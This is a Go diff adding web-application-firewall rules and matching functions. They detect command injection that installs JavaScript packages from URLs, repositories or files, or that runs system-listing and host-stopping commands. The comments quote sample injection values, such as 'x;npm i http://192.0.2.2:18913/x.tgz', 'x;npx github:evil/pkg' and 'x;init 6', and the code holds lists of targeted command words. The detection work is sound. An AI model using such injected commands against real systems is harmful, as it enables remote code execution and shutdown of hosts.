@@ -371,3 +371,336 @@ func fileLikeName(name string) bool {
 	}
 	return false
 }
+
+// shellInstallRules are rules 210226 and 210227, attack 91's commands
+// after a separator, which rule 210151's expression does not read and
+// cannot take (its RE2 budget is spent, "The bound"):
+//   - 210226 (shellPkgInstall): a JavaScript package manager installing
+//     or running a package from a source that is no registry name (a URL,
+//     github:, git+, file:, a tarball, a path or a host): its install
+//     scripts run (npm ran a preinstall script as root):
+//     x;npm i http://192.0.2.2:18913/x.tgz, x;npm i github:evil/pkg,
+//     x;pnpm add git+https://e/x.git, x;npx github:evil/pkg. A registry
+//     name alone is what a forum post writes ("Run the tests; npm i lodash
+//     first") and passes, as x;pnpm add evil-pkg does (not covered).
+//   - 210227 (shellSysCommand): commands that list files, mounts, sockets
+//     and open files, the shell's commands and variables, or stop the
+//     host: a word that is no prose word (lsof, findmnt, lsblk, poweroff,
+//     vdir, cgexec, telinit, compgen) at the end of a command or before an
+//     option or a path, and a word that is also prose (du, ss, halt,
+//     init, umount, readonly, history, mount) before an option of its own
+//     (-a, -f, -xp); init and telinit before a runlevel's digit that ends
+//     the command too. "Art; history", "the train will halt; passengers",
+//     "a; mount Everest" and "Tools; lsof lists open files" pass.
+//
+// Each reads as 210223 does: after each of 210151's separators, the
+// command word (shellRunWord) in a window of shellStateWindow bytes and
+// what follows it in a window as bounded.
+var shellInstallRules = `SecRule ` + valueHeaderTargets + ` "@` + shellPkgInstallOp + `" "id:210226,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a separator then a package manager installing from a URL, a repository or a file',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
+SecRule ` + valueHeaderTargets + ` "@` + shellSysCommandOp + `" "id:210227,phase:2,block,t:none,t:urlDecodeUni,msg:'Command injection: a separator then a command that lists the system or stops the host',tag:'application-multi',tag:'attack-rce',tag:'paranoia-level/1',tag:'caddy-gateway',ver:'caddy-gateway',severity:'CRITICAL',setvar:'tx.inbound_anomaly_score_pl1=+%{tx.critical_anomaly_score}'"
+`
+
+const (
+	shellPkgInstallOp = "gatewayShellPkgInstall"
+	shellSysCommandOp = "gatewayShellSysCommand"
+)
+
+func init() {
+	registerGoOperator(shellPkgInstallOp, shellPkgInstall)
+	registerGoOperator(shellSysCommandOp, shellSysCommand)
+}
+
+// pkgInstallVerbs are, for each package manager, its subcommands that
+// install or run a package it fetches (npm's abbreviations and
+// misspellings of install are its own aliases); npx, pnpx and bunx take
+// the package with no subcommand.
+var pkgInstallVerbs = map[string][]string{
+	"npm":  {"i", "in", "ins", "inst", "insta", "instal", "install", "isnt", "isnta", "isntal", "isntall", "add", "exec", "x"},
+	"pnpm": {"i", "install", "add", "dlx"},
+	"yarn": {"add", "dlx"},
+	"bun":  {"i", "install", "add", "x"},
+	"npx":  nil, "pnpx": nil, "bunx": nil,
+}
+
+// shellPkgInstall is rule 210226's operator (see shellInstallRules):
+// after a separator and grouping, npm, pnpm, yarn or bun (shellRunWord)
+// and options, one of its install verbs (yarn global add too), or npx,
+// pnpx or bunx; then among the command's words up to its end (options
+// and registry names read over) a source that is no registry name
+// (pkgSource). A word that is neither (a prose word with a ':' or a
+// ',') ends the reading: "Bug; npm install fails: see https://..."
+// passes. After a line break or a backtick the command must end there
+// (inline code in a sentence, "install with `npm i github:u/r` today",
+// is prose).
+func shellPkgInstall(v string) bool {
+	for i := 0; i < len(v); i++ {
+		k, ok := shellSeparatorEnd(v, i)
+		if !ok {
+			continue
+		}
+		k = skipShellGrouping(v, k)
+		var a [16]byte
+		w, e := shellRunWord(v, k, a[:0])
+		if e == k {
+			continue
+		}
+		verbs, ok := pkgInstallVerbs[string(w)]
+		if !ok {
+			continue
+		}
+		limit := min(len(v), e+shellStateWindow)
+		j := e
+		if verbs != nil {
+			j = pkgVerb(v, e, limit, verbs, string(w) == "yarn")
+			if j < 0 {
+				continue
+			}
+		}
+		if pkgArguments(v, j, limit, string(w) == "yarn", v[i] == '\n' || v[i] == '`') {
+			return true
+		}
+	}
+	return false
+}
+
+// pkgVerb reads, at v[e:limit], blanks, options (-g, --prefix=x) and one
+// of verbs (shellRunWord; yarn's global before add); it answers the
+// index after the verb, or -1.
+func pkgVerb(v string, e, limit int, verbs []string, yarn bool) int {
+	j := e
+	for j < limit {
+		n := skipBlanks(v, j)
+		if n == j || n >= limit {
+			return -1
+		}
+		if v[n] == '-' {
+			for n < limit && !shellArgEnd(v[n]) {
+				n++
+			}
+			j = n
+			continue
+		}
+		var a [16]byte
+		w, end := shellRunWord(v, n, a[:0])
+		if end == n {
+			return -1
+		}
+		if yarn && string(w) == "global" {
+			j = end
+			continue
+		}
+		for _, verb := range verbs {
+			if string(w) == verb {
+				return end
+			}
+		}
+		return -1
+	}
+	return -1
+}
+
+// shellArgEnd: c ends a command's word (a blank or a separator).
+func shellArgEnd(c byte) bool { return strings.IndexByte(" \t\r\n;|&`)", c) >= 0 }
+
+// pkgArguments reads the install command's words at v[j:limit]: an
+// option or a registry name (pkgSpec) is read over, a source
+// (pkgSource) is the answer; any other word, or the command's end, ends
+// the reading. When strict, a source counts only if the command ends
+// with the value, a separator or a closing backtick that ends a command
+// (shellWordEnds).
+func pkgArguments(v string, j, limit int, yarn, strict bool) bool {
+	found := false
+	for {
+		n := skipBlanks(v, j)
+		if n >= len(v) || strings.IndexByte(";|&`)\n\r", v[n]) >= 0 {
+			j = n
+			break
+		}
+		if n == j || n >= limit {
+			return false // a word glued to the verb, or the window's end
+		}
+		s := n
+		for n < len(v) && !shellArgEnd(v[n]) {
+			if n++; n >= limit && n < len(v) {
+				return false // a word longer than the window
+			}
+		}
+		var a [shellStateWindow]byte
+		tok := a[:0]
+		for _, c := range []byte(v[s:n]) {
+			if c != '\'' && c != '"' && c != '\\' {
+				tok = append(tok, c)
+			}
+		}
+		switch {
+		case pkgSource(string(tok), yarn):
+			if !strict {
+				return true
+			}
+			found = true
+		case len(tok) > 0 && tok[0] == '-' || pkgSpec(string(tok)):
+		default:
+			return false
+		}
+		j = n
+	}
+	if !found {
+		return false
+	}
+	if j == len(v) || v[j] != '`' {
+		return true
+	}
+	return shellWordEnds(v, j)
+}
+
+// pkgSource: tok (a package manager's argument, quotes taken out) names
+// a package by no registry name: a URL (://), a repository or file
+// protocol (github:, gitlab:, bitbucket:, gist:, git+, git@, file:,
+// link:, http:), a tarball (.tgz, .tar.gz, .tar), a path (/x, ./x, ../x,
+// ~/x), a host and a path (evil.com/x.tgz), or, but for yarn (knitting's
+// "yarn add wool/silk"), GitHub's owner/repo. A scoped name (@types/node)
+// is a registry name.
+func pkgSource(tok string, yarn bool) bool {
+	if len(tok) < 2 {
+		return false
+	}
+	t := strings.ToLower(tok)
+	if strings.Contains(t, "://") {
+		return true
+	}
+	for _, p := range []string{"github:", "gitlab:", "bitbucket:", "gist:", "git+", "git@", "file:", "link:", "http:", "https:", "/", "./", "../", "~/"} {
+		if strings.HasPrefix(t, p) && len(t) > len(p) {
+			return true
+		}
+	}
+	for _, s := range []string{".tgz", ".tar.gz", ".tar"} {
+		if strings.HasSuffix(t, s) && len(t) > len(s) {
+			return true
+		}
+	}
+	slash := strings.IndexByte(t, '/')
+	if t[0] == '@' || slash <= 0 || slash == len(t)-1 {
+		return false
+	}
+	if strings.ContainsAny(t[:slash], ".:") {
+		return true
+	}
+	return !yarn && pkgSpec(t)
+}
+
+// pkgSpec: tok is shaped as a registry name with a version or a range
+// (lodash, react@18.2.0, @types/node, x@^1 || 2 is read word by word):
+// letters, digits and @ . _ ~ ^ * = < > + - / only.
+func pkgSpec(tok string) bool {
+	if tok == "" {
+		return false
+	}
+	for i := 0; i < len(tok); i++ {
+		if !identByte(tok[i], "@._~^*=<>+-/") {
+			return false
+		}
+	}
+	return true
+}
+
+// sysCommandProse are 210227's words that prose writes too (they count
+// only before an option of their own, or init before a runlevel);
+// sysCommandOwn are those it does not (they count at the end of a
+// command too, and before a path).
+var (
+	sysCommandProse = map[string]bool{"du": true, "ss": true, "halt": true, "init": true, "umount": true,
+		"readonly": true, "history": true, "mount": true}
+	sysCommandOwn = map[string]bool{"lsof": true, "findmnt": true, "lsblk": true, "poweroff": true, "vdir": true,
+		"cgexec": true, "telinit": true, "compgen": true}
+)
+
+// shellSysCommand is rule 210227's operator (see shellInstallRules):
+// after a separator and grouping, one of sysCommandOwn's words
+// (shellRunWord) at a command's end (shellWordEnds), before an option or
+// before a path (/, ~/, ./); one of sysCommandProse's before an option
+// (shellOption); init and telinit before a runlevel's digit that ends
+// the command.
+func shellSysCommand(v string) bool {
+	for i := 0; i < len(v); i++ {
+		k, ok := shellSeparatorEnd(v, i)
+		if !ok {
+			continue
+		}
+		k = skipShellGrouping(v, k)
+		var a [16]byte
+		w, e := shellRunWord(v, k, a[:0])
+		if e == k {
+			continue
+		}
+		word := string(w)
+		own := sysCommandOwn[word]
+		if !own && !sysCommandProse[word] {
+			continue
+		}
+		if shellOption(v, e) {
+			return true
+		}
+		if (word == "init" || word == "telinit") && shellRunlevel(v, e) {
+			return true
+		}
+		if own && (shellWordEnds(v, e) || shellPathArg(v, e)) {
+			return true
+		}
+	}
+	return false
+}
+
+// shellOption: blanks at v[e:], then an option: - and letters (-a, -f,
+// -xp, -g) or -- and a name (--all, --force=x), ending at the value's
+// end, a blank, a separator or (after a long name) =. "du -- de" and
+// "halt - stop" are none.
+func shellOption(v string, e int) bool {
+	k := skipBlanks(v, e)
+	if k == e || k+1 >= len(v) || v[k] != '-' {
+		return false
+	}
+	n := k + 1
+	long := v[n] == '-'
+	if long {
+		n++
+	}
+	s := n
+	for n < len(v) && n-s < 32 && (v[n] >= 'a' && v[n] <= 'z' || v[n] >= 'A' && v[n] <= 'Z' || long && n > s && v[n] == '-') {
+		n++
+	}
+	if n == s {
+		return false
+	}
+	return n == len(v) || shellArgEnd(v[n]) || v[n] == '#' || long && v[n] == '='
+}
+
+// shellRunlevel: blanks at v[e:], a runlevel (0-6, s or S), and the
+// command's end (shellWordEnds): x;init 6, x;telinit 0. "init 2 repos"
+// is prose.
+func shellRunlevel(v string, e int) bool {
+	k := skipBlanks(v, e)
+	if k == e || k >= len(v) || !(v[k] >= '0' && v[k] <= '6' || v[k] == 's' || v[k] == 'S') {
+		return false
+	}
+	return shellWordEnds(v, k+1)
+}
+
+// shellPathArg: blanks at v[e:], then an absolute path or one from the
+// home or the current directory (/root, ~/.ssh, ./x): x;vdir /home.
+func shellPathArg(v string, e int) bool {
+	k := skipBlanks(v, e)
+	if k == e || k >= len(v) {
+		return false
+	}
+	switch {
+	case v[k] == '/':
+		return k+1 == len(v) || identByte(v[k+1], ".") || shellArgEnd(v[k+1])
+	case v[k] == '~' || v[k] == '.':
+		j := k + 1
+		if v[k] == '.' && j < len(v) && v[j] == '.' {
+			j++
+		}
+		return j+1 < len(v) && v[j] == '/' && identByte(v[j+1], ".")
+	}
+	return false
+}
